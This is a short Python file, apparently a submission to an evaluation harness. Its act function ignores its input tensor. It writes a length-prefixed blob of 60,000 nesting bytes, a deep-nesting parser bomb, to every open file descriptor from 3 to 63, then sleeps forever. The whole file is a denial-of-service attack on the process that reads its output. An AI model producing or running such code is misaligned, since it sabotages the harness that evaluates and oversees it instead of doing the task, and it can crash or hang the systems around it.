"""Writes an answer that is nested a million levels deep."""

import contextlib
import os
import struct
import time

import torch


def act(values: torch.Tensor) -> object:
    header = b"\x81" * 60_000 + b"\x00"
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<I", len(header)) + header)
    while True:
        time.sleep(3600)
